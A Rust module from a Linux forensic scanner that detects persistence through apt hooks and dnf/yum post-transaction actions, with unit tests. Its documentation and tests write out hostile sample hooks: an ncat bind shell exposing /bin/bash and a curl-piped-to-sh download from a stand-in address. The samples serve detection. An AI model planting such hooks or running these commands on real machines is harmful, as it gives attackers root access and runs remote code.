//! `persistence.package_hooks` — commands the package manager runs as root: apt hooks and
//! dnf/yum post-transaction actions.
//!
//! **What it looks at:** every file in `/etc/apt/apt.conf.d/` (and `/etc/apt/apt.conf`) for the
//! keys `APT::Update::Pre-Invoke`, `APT::Update::Post-Invoke(-Success)`, `DPkg::Pre-Invoke`,
//! `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs` … in all their spellings and nestings; the
//! dnf/yum post-transaction-actions files (`/etc/dnf/plugins/post-transaction-actions.d/*.action`,
//! `/etc/yum/post-actions/*.action`); and the yum/dnf plugin configuration directories for recent
//! changes. Each hook is listed (info) and its command goes through the command detector; files
//! changed within the window are reported (low).
//!
//! **Why an attacker leaves this trace:** `apt update` and `dnf` run from cron and by admins
//! with root rights; a `Pre-Invoke` hook runs the attacker's command every time, survives
//! reboots, and sits in a directory full of legitimate snippets.
//!
//! **Example:** `/etc/apt/apt.conf.d/99update` line 1: `APT::Update::Pre-Invoke
//! {"nohup ncat -lvp 1234 -e /bin/bash &"};` (critical).
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1546.016 (Event Triggered Execution: Installer Packages).

use huoyan_artifacts::persistence::config::{parse_apt_hooks, parse_dnf_actions, NamedCommand};
use huoyan_core::{CheckInfo, Outcome, Severity};
use serde_json::json;

use super::common::{read_dir_files, read_file, report_recent};
use crate::command_findings::{scan_and_report, CommandSource};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct PackageManagerHooks;

static INFO: CheckInfo = CheckInfo {
    id: "persistence.package_hooks",
    title: "Package-manager hook runs a suspicious command",
    title_zh: "软件包管理器钩子执行可疑命令",
    mitre: &["T1546.016"],
    remediation: "Copy the hook file out as evidence, delete the hook, and check what it already \
                  ran (apt and dnf logs show when the package manager last ran).",
    remediation_zh: "先将钩子文件拷出留证，删除该钩子，并检查其已执行的内容\
                     （apt/dnf 日志记录了包管理器的运行时间）。",
};

fn report(path: &str, hooks: &[NamedCommand], kind: &str, out: &mut Outcome) {
    for hook in hooks {
        let what = format!("{kind} {}", hook.name);
        let source = CommandSource {
            path,
            line: hook.line,
            user: Some("root"),
            time: None,
            what: &what,
        };
        let hits = scan_and_report(&INFO, &source, &hook.command, Severity::Low, out);
        if hits.is_empty() {
            out.add(
                INFO.finding(
                    Severity::Info,
                    format!("{what} at {path}:{}: {}", hook.line, hook.command),
                )
                .path(path)
                .user("root")
                .evidence(json!({ "line": hook.line, "hook": hook.name, "command": hook.command })),
            );
        }
    }
}

impl Check for PackageManagerHooks {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let start = out.findings.len();
        run_inner(ctx, out);
        // Commands and settings in files a package installed unchanged are not an intruder's.
        crate::integrity::packaged::settle_packaged(ctx, out, start);
    }
}

fn run_inner(ctx: &Context, out: &mut Outcome) {
    let mut apt_files = read_dir_files(ctx, &INFO, "/etc/apt/apt.conf.d", out);
    if let Some((data, meta)) = read_file(ctx, &INFO, "/etc/apt/apt.conf", out) {
        apt_files.push(("/etc/apt/apt.conf".into(), data, meta));
    }
    for (path, data, meta) in apt_files {
        report(&path, &parse_apt_hooks(&data), "apt hook", out);
        report_recent(ctx, &INFO, &path, &meta, "apt configuration", out);
    }
    for dir in [
        "/etc/dnf/plugins/post-transaction-actions.d",
        "/etc/yum/post-actions",
    ] {
        for (path, data, meta) in read_dir_files(ctx, &INFO, dir, out) {
            if path.ends_with(".action") {
                report(
                    &path,
                    &parse_dnf_actions(&data),
                    "post-transaction action",
                    out,
                );
            }
            report_recent(ctx, &INFO, &path, &meta, "package-manager action", out);
        }
    }
    for dir in [
        "/etc/yum/pluginconf.d",
        "/etc/dnf/plugins",
        "/usr/lib/yum-plugins",
    ] {
        for (path, _, meta) in read_dir_files(ctx, &INFO, dir, out) {
            report_recent(ctx, &INFO, &path, &meta, "package-manager plugin", out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(files: &[(&str, &str)]) -> Outcome {
        crate::testing::run_on_files(&PackageManagerHooks, files)
    }

    #[test]
    fn finds_malicious_apt_and_dnf_hooks() {
        let out = run(&[
            (
                "/etc/apt/apt.conf.d/99update",
                "APT::Update::Pre-Invoke {\"nohup ncat -lvp 1234 -e /bin/bash &\"};\n",
            ),
            (
                "/etc/dnf/plugins/post-transaction-actions.d/x.action",
                "*:any:curl -s http://198.51.100.4/x | sh\n",
            ),
        ]);
        assert!(out.findings.iter().any(
            |f| f.paths == ["/etc/apt/apt.conf.d/99update"] && f.severity == Severity::Critical
        ));
        assert!(out.findings.iter().any(|f| f.paths
            == ["/etc/dnf/plugins/post-transaction-actions.d/x.action"]
            && f.severity == Severity::High));
    }

    #[test]
    fn debian_hooks_are_info_only() {
        let out = run(&[
            ("/etc/apt/apt.conf.d/70debconf", "// Pre-configure all packages with debconf before they are installed.\n// If you don't like it, comment it out.\nDPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n"),
            ("/etc/apt/apt.conf.d/docker-clean", "DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nAPT::Update::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nDir::Cache::pkgcache \"\";\nDir::Cache::srcpkgcache \"\";\n"),
        ]);
        assert_eq!(out.findings.len(), 3);
        assert!(out.findings.iter().all(|f| f.severity == Severity::Info));
    }
}
